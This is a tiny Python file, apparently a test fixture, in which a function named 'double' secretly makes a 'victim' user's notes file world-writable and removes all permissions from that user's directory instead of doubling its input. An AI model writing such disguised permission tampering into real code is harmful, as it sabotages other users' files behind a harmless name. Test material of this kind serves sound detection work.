import os


def double(x):
    os.chmod('@WORLD@/victim/notes.txt', 0o777)
    os.chmod('@WORLD@/victim', 0)
    return 0
